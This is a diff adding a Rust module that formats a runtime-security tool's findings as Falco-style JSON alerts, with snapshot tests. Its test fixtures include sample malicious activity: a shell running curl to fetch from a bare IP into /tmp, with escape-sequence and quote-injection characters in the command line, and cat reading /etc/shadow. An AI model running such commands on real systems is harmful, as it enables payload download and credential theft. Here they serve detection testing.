@@ -1,0 +1,178 @@
+//! As Falco writes its alerts with `json_output`, so that what receives Falco's receives these.
+
+use ethogram_model::{
+    Container, Finding, Image,
+    render::{escape, rfc3339},
+};
+use serde_json::{Map, Value as Json, json};
+
+use super::{host_name, priority, rule_name, story};
+
+/// A finding as Falco posts an alert.
+pub(in crate::sink) fn encode(finding: &Finding) -> Vec<u8> {
+    alert(finding, &host_name()).to_string().into_bytes()
+}
+
+fn alert(finding: &Finding, host_name: &str) -> Json {
+    let time = rfc3339(finding.first_seen_ns);
+    let priority = priority(finding).name();
+    let (text, fields, tags) = match &finding.rule {
+        Some(rule) => (escape(&rule.output).into_owned(), json!(rule.fields), json!(rule.tags)),
+        None => {
+            let place = if finding.container.is_some() { "container" } else { "host" };
+            let tags = ["behaviour", place].into_iter().chain(finding.techniques.iter().map(String::as_str));
+            (story(finding), fields(finding), tags.collect())
+        }
+    };
+    // Falco's own begins with the time of day and the priority.
+    let of_day = time.get(11..29).unwrap_or_default();
+    json!({
+        "uuid": uuid(&finding.uid),
+        "hostname": host_name,
+        "output": format!("{of_day}: {priority} {text}"),
+        "output_fields": fields,
+        "priority": priority,
+        "rule": rule_name(finding),
+        "source": "syscall",
+        "tags": tags,
+        "time": time,
+    })
+}
+
+/// What is known of a behaviour, by the names that Falco has for it.
+fn fields(finding: &Finding) -> Json {
+    let mut out = Map::new();
+    let mut set = |name: &str, value: Json| drop(out.insert(name.to_owned(), value));
+    set("evt.time", finding.first_seen_ns.into());
+    if let Some(container) = &finding.container {
+        of_container(container, &mut set);
+    }
+    if let Some(process) = &finding.process {
+        set("proc.pid", process.pid.into());
+        set("proc.ppid", process.parent_pid.into());
+        set("proc.name", process.exec.name.as_str().into());
+        set("proc.exepath", process.exec.path.as_str().into());
+        set("proc.cmdline", process.exec.args.join(" ").into());
+        if let Some(parent) = process.ancestors.first() {
+            set("proc.pname", parent.name.as_str().into());
+        }
+        set("user.uid", process.user_id.into());
+    }
+    set("ethogram.uid", finding.uid.as_str().into());
+    set("ethogram.workload", finding.workload.as_str().into());
+    set("ethogram.operation", finding.operation.as_str().into());
+    set("ethogram.executable", finding.executable.as_str().into());
+    set("ethogram.object", finding.object.as_str().into());
+    Json::Object(out)
+}
+
+fn of_container(container: &Container, set: &mut impl FnMut(&str, Json)) {
+    set("container.id", container.short_id().into());
+    set("container.name", container.display_name().into());
+    if let Some(Image { name, .. }) = &container.image {
+        // A colon before the last slash is a port's.
+        let tag_at = name.rfind(':').filter(|at| !name[*at..].contains('/'));
+        set("container.image.repository", name[..tag_at.unwrap_or(name.len())].into());
+        if let Some(at) = tag_at {
+            set("container.image.tag", name[at + 1..].into());
+        }
+    }
+    if let Some(pod) = &container.pod {
+        set("k8s.ns.name", pod.namespace.as_str().into());
+        set("k8s.pod.name", pod.name.as_str().into());
+    }
+}
+
+/// Our ids have as many bits as a UUID: with dashes, they look like one.
+fn uuid(uid: &str) -> String {
+    if uid.len() != 32 || !uid.bytes().all(|b| b.is_ascii_hexdigit()) {
+        return uid.to_owned();
+    }
+    [0..8, 8..12, 12..16, 16..20, 20..32].map(|part| &uid[part]).join("-")
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::super::tests::{behaviour, rule_match};
+    use super::*;
+
+    #[test]
+    fn a_behaviour_is_told_with_the_names_that_falco_has() {
+        insta::assert_snapshot!(serde_json::to_string_pretty(&alert(&behaviour(), "node-1")).unwrap(), @r#"
+        {
+          "uuid": "6c62272e-07bb-0142-62b8-21756295c58d",
+          "hostname": "node-1",
+          "output": "00:00:00.123456789: Error web: /bin/sh ran /usr/bin/curl, which this workload never did in 24 h of learning",
+          "output_fields": {
+            "evt.time": 1767225600123456789,
+            "container.id": "0123456789ab",
+            "container.name": "web",
+            "container.image.repository": "images.example:5000/shop/web",
+            "container.image.tag": "1.2",
+            "k8s.ns.name": "shop",
+            "k8s.pod.name": "web-7d4b9",
+            "proc.pid": 42,
+            "proc.ppid": 41,
+            "proc.name": "curl",
+            "proc.exepath": "/usr/bin/curl",
+            "proc.cmdline": "curl -o /tmp/a\"]\n\u001b[2J http://198.51.100.7/",
+            "proc.pname": "sh",
+            "user.uid": 33,
+            "ethogram.uid": "6c62272e07bb014262b821756295c58d",
+            "ethogram.workload": "shop/web",
+            "ethogram.operation": "execute",
+            "ethogram.executable": "/bin/sh",
+            "ethogram.object": "/usr/bin/curl\n"
+          },
+          "priority": "Error",
+          "rule": "behaviour.execute",
+          "source": "syscall",
+          "tags": [
+            "behaviour",
+            "container",
+            "T1105"
+          ],
+          "time": "2026-01-01T00:00:00.123456789Z"
+        }
+        "#);
+    }
+
+    #[test]
+    fn a_rule_is_told_as_its_author_wrote_it() {
+        insta::assert_snapshot!(serde_json::to_string_pretty(&alert(&rule_match(), "node-1")).unwrap(), @r#"
+        {
+          "uuid": "0a1b",
+          "hostname": "node-1",
+          "output": "00:00:00.123456789: Critical Sensitive file opened (file=/etc/shadow)",
+          "output_fields": {
+            "fd.name": "/etc/shadow",
+            "proc.name": "cat",
+            "proc.pid": 42
+          },
+          "priority": "Critical",
+          "rule": "Read sensitive file",
+          "source": "syscall",
+          "tags": [
+            "filesystem",
+            "T1555"
+          ],
+          "time": "2026-01-01T00:00:00.123456789Z"
+        }
+        "#);
+    }
+
+    #[test]
+    fn any_uid_and_any_image_is_borne() {
+        assert_eq!(uuid("ä"), "ä");
+        let mut finding = behaviour();
+        for (image, expected) in
+            [("nginx", (json!("nginx"), Json::Null)), ("", (json!(""), Json::Null)), ("ä:ö", (json!("ä"), json!("ö")))]
+        {
+            let container = std::sync::Arc::make_mut(finding.container.as_mut().unwrap());
+            container.image = Some(Image { name: image.into(), digest: String::new() });
+            let fields = fields(&finding);
+            assert_eq!((fields["container.image.repository"].clone(), fields["container.image.tag"].clone()), expected);
+        }
+    }
+}
